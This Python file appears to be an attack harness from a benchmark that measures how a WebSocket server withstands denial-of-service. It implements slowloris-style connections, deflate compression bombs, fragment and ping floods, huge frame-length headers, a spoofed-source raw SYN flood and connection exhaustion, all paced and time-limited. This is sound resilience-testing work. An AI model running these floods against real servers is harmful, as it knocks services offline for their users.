#!/usr/bin/env python3
"""The attacks that tools/bench/attacks measures: one process each, bounded in time and rate.

  attackers.py NAME HOST PORT SECONDS

Says "ready" when the attack is at its full size. All of them are paced: a flood at full speed would
only show that a CPU that is busy is busy, while what matters is what one message of an attacker costs
beside what it costs the attacker. The rates are constants at the head of each attack.
"""

import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import time
import zlib

sys.dont_write_bytecode = True

import websocket as ws

MAX_MESSAGE = 1 << 20  # --max-message of the server under attack
TICK_S = 0.01


class Pace:
    """Something `rate` times a second, in small pieces; ends at the deadline."""

    def __init__(self, rate, deadline):
        self._rate, self._deadline = rate, deadline
        self._start, self._done = time.monotonic(), 0

    def due(self):
        """How many are due now, one after the other, until there is no more time."""
        while time.monotonic() < self._deadline:
            due = int((time.monotonic() - self._start) * self._rate) - self._done
            if due <= 0:
                time.sleep(min(TICK_S, 1 / self._rate))
                continue
            # What was missed for lack of CPU time is not made up for in one burst.
            due = min(due, max(1, int(self._rate * TICK_S)))
            self._done = int((time.monotonic() - self._start) * self._rate)
            yield from range(due)


class Target:
    def __init__(self, host, port, seconds):
        self.address = (host, port)
        self.deadline = time.monotonic() + seconds

    def pace(self, rate):
        return Pace(rate, self.deadline).due()

    def ready(self):
        print("ready", flush=True)

    def wait(self):
        time.sleep(max(0, self.deadline - time.monotonic()))


class Crowd:
    """Connections of which one that is lost is opened again."""

    def __init__(self, size, opening):
        self._opening = opening
        self.all = [self._open() for _ in range(size)]

    def _open(self):
        connection = self._opening()
        connection.setblocking(False)
        return connection

    def again(self, index):
        self.all[index].close()
        try:
            self.all[index] = self._open()
        except OSError:
            pass  # tried again when it is its turn

    def send(self, index, data):
        """Sends what the socket takes, and how much that is; -1 when the connection is lost."""
        try:
            return self.all[index].send(data, socket.MSG_NOSIGNAL)
        except BlockingIOError:
            return 0
        except OSError:
            self.again(index)
            return -1

    def drain(self, index, size=1 << 16):
        """Takes what is there; a connection that the server has ended is opened again."""
        try:
            if not self.all[index].recv(size):
                self.again(index)
        except BlockingIOError:
            pass
        except OSError:
            self.again(index)


def slow_handshake(target):
    """1,000 connections, each sends a byte of its request per second."""
    size = 1000
    crowd = Crowd(size, lambda: ws.connect(target.address))
    sent, request = [0] * size, ws.request()
    target.ready()
    index = 0
    for _ in target.pace(size):
        index = (index + 1) % size
        place = sent[index] % (len(request) - 4)  # the end of the head never comes
        sent[index] = sent[index] + 1 if crowd.send(index, request[place:place + 1]) > 0 else 0


def slow_echo(target):
    """100 connections ask for echoes of 1 MiB and read 1 KiB of them ten times a second. Once the
    load is measured they send in pieces, since the kernel does not interrupt a call of ours for it."""
    size, message = 100, ws.frame(ws.BINARY, bytes(MAX_MESSAGE))

    def send(index, most):
        at = sent[index] % len(message)
        sent[index] += max(0, crowd.send(index, message[at:at + most]))

    crowd = Crowd(size, lambda: ws.upgraded(target.address, receive_bytes=4096))
    sent = [0] * size
    for index in list(range(size)) * 20:
        send(index, MAX_MESSAGE)
    target.ready()
    index = 0
    for _ in target.pace(10 * size):
        index = (index + 1) % size
        crowd.drain(index, 1024)
        send(index, 1 << 14)


def slow_subscriber(target):
    """20 subscribers read nothing of a topic that has sent them 6 MiB, more than the kernel takes for each
    of them, and goes on with 20 messages of 64 KiB per second; who is thrown out comes back."""
    crowd = Crowd(20, lambda: ws.upgraded(target.address, "/topic/busy", receive_bytes=4096))
    publisher = ws.upgraded(target.address, "/topic/busy")
    message = ws.frame(ws.BINARY, bytes(1 << 16))

    def publish():
        publisher.sendall(message)
        while select.select([publisher], [], [], 0)[0]:
            if not publisher.recv(1 << 16):
                raise ConnectionError("the server ended the publisher")
    for _ in range(96):
        publish()
    target.ready()
    for _ in target.pace(20):
        publish()
        for index in _lost(crowd.all):
            crowd.again(index)


def _lost(connections):
    poll, by_descriptor = select.poll(), {}
    for index, connection in enumerate(connections):
        if connection.fileno() < 0:  # could not be opened again
            return [index]
        poll.register(connection, select.POLLRDHUP)
        by_descriptor[connection.fileno()] = index
    return [by_descriptor[descriptor] for descriptor, _ in poll.poll(0)]


def fragments(target):
    """10 connections send messages in frames of 1 byte, 100,000 frames a second, and never end one."""
    at_once = 100
    crowd = Crowd(10, lambda: ws.upgraded(target.address))
    for connection in crowd.all:
        connection.sendall(ws.frame(ws.BINARY, b"x", fin=False))
    piece = ws.frame(ws.CONTINUATION, b"x", fin=False) * at_once
    target.ready()
    for turn, _ in enumerate(target.pace(100_000 // at_once)):
        index = turn % len(crowd.all)
        if crowd.send(index, piece) < 0:
            crowd.send(index, ws.frame(ws.BINARY, b"x", fin=False))


def segments(target):
    """50 connections send good messages byte by byte, 10,000 segments a second."""
    crowd = Crowd(50, lambda: ws.upgraded(target.address))
    message = ws.frame(ws.BINARY, bytes(20))
    target.ready()
    for turn, _ in enumerate(target.pace(10_000)):
        index, place = turn % len(crowd.all), turn // len(crowd.all) % len(message)
        crowd.send(index, message[place:place + 1])
        if place == 0:
            crowd.drain(index)


def pings(target):
    """100,000 pings of 125 bytes a second over 10 connections; one of them reads no answers."""
    at_once = 50
    crowd = Crowd(10, lambda: ws.upgraded(target.address))
    piece, left = ws.frame(ws.PING, bytes(125)) * at_once, [b""] * 10
    target.ready()
    for turn, _ in enumerate(target.pace(100_000 // at_once)):
        index = turn % len(crowd.all)
        data = left[index] or piece
        left[index] = data[max(0, crowd.send(index, data)):]
        if index != 0:
            crowd.drain(index)


def bomb_frame(size, **flags):
    """A message of zeros, 1:1030."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(size)) + packer.flush(zlib.Z_SYNC_FLUSH)
    return ws.frame(ws.BINARY, packed[:-4], compressed=True, **flags)


def bombs(target):
    """10 messages a second of 64 KiB that would inflate to 64 MiB."""
    bomb = bomb_frame(64 << 20)
    target.ready()
    for _ in target.pace(10):
        with ws.upgraded(target.address, fields=ws.DEFLATE) as connection:
            try:
                connection.sendall(bomb)
                while connection.recv(1 << 16):
                    pass
            except OSError:
                pass  # it need not hear us out


def held_bombs(target):
    """100 connections hold the first half of a message that has inflated to 1,000,000 bytes."""
    half = bomb_frame(1_000_000, fin=False)
    crowd = Crowd(100, lambda: ws.upgraded(target.address, fields=ws.DEFLATE))
    for index in range(100):
        crowd.send(index, half)
    target.ready()
    for _ in target.pace(10):  # those that were refused come again
        for index in _lost(crowd.all)[:2]:
            crowd.again(index)
            crowd.send(index, half)


def held_halves(target):
    """100 connections hold all but the end of a message of 1 MiB; who is thrown out comes back."""
    half = ws.frame(ws.BINARY, bytes(MAX_MESSAGE - 1024), fin=False)
    size = 100
    crowd = Crowd(size, lambda: ws.upgraded(target.address))
    sent = [0] * size
    for index in list(range(size)) * 20:
        sent[index] += max(0, crowd.send(index, half[sent[index]:]))
    target.ready()
    index = 0
    for _ in target.pace(10 * size):
        index = (index + 1) % size
        if sent[index] < len(half):
            took = crowd.send(index, half[sent[index]:])
            sent[index] = sent[index] + took if took >= 0 else 0
        elif index in _lost([crowd.all[index]]):
            crowd.again(index)
            sent[index] = 0


def _huge(target, length):
    data = ws.header(ws.BINARY, length) + bytes(16)
    target.ready()
    for _ in target.pace(200):
        with ws.upgraded(target.address) as connection:
            try:
                connection.sendall(data)
                while connection.recv(4096):
                    pass
            except OSError:
                pass


def length_63(target):
    """200 connections a second send a frame header that says 2^63 bytes follow."""
    _huge(target, 1 << 63)


def length_62(target):
    """200 connections a second send a frame header that says 2^62 bytes follow."""
    _huge(target, 1 << 62)


def half_open(target):
    """50,000 SYN from addresses that never answer, then 5,000 more each second."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(50_000):
        raw.sendto(_syn(number, target.address), target.address)
    target.ready()
    for number, _ in enumerate(target.pace(5_000), 50_000):
        raw.sendto(_syn(number, target.address), target.address)


def _syn(number, address):
    # 10.9.0.0/16, which leads nowhere in the namespace of the benchmark: namespace.py.
    source = struct.pack("!BBBB", 10, 9, 1 + number // 250 % 250, 1 + number % 250)
    to = socket.inet_aton(address[0])
    segment = struct.pack("!HHIIBBHHH", 1024 + number % 60000, address[1], random.getrandbits(32), 0,
                          5 << 4, 2, 65535, 0, 0)
    summed = source + to + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment)) + segment
    segment = segment[:16] + struct.pack("!H", _checksum(summed)) + segment[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0,
                       source, to) + segment


def _checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def silent(target):
    """50,000 connections that are established and never speak: more than the server may hold."""
    ready_read, ready_write = os.pipe()
    parts = 3  # each below the 20,000 files of a process
    for part in range(parts):
        if os.fork() == 0:
            _open_silent(target, f"127.0.1.{1 + part}", 50_000 // parts)
            os.write(ready_write, b".")
            target.wait()
            os._exit(0)
    for _ in range(parts):
        os.read(ready_read, 1)
    target.ready()
    target.wait()


def _open_silent(target, source, count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = []
    for number in range(count):
        connection = socket.socket()
        connection.setblocking(False)
        connection.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        connection.bind((source, 0))
        connection.connect_ex(target.address)
        opened.append(connection)
        if number % 100 == 0:
            time.sleep(0.002)
    globals()["_kept"] = opened


def tls_garbage(target):
    """500 connections a second with 512 random bytes at the TLS port."""
    target.ready()
    for _ in target.pace(500):
        with ws.connect(target.address) as connection:
            try:
                connection.sendall(ws.garbage(512))
                connection.recv(512)
            except OSError:
                pass


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls_cut(target):
    """1,000 connections that hold half a ClientHello, 100 of them begun anew each second."""
    half = client_hello()
    half = half[:len(half) // 2]

    def opening():
        connection = ws.connect(target.address)
        connection.sendall(half)
        return connection
    crowd = Crowd(1000, opening)
    target.ready()
    for turn, _ in enumerate(target.pace(100)):
        crowd.again(turn % 1000)


def tls_middle(target):
    """200 handshakes a second that end when the server has done its part."""
    hello = client_hello()
    target.ready()
    for _ in target.pace(200):
        with ws.connect(target.address) as connection:
            try:
                connection.sendall(hello)
                connection.recv(4096)
            except OSError:
                pass


ATTACKS = {function.__name__: function for function in (
    slow_handshake, slow_echo, slow_subscriber, fragments, segments, pings, bombs, held_bombs, held_halves,
    length_63, length_62, half_open, silent, tls_garbage, tls_cut, tls_middle)}


def main():
    name, host, port, seconds = sys.argv[1:]
    ATTACKS[name](Target(host, int(port), float(seconds)))


if __name__ == "__main__":
    main()
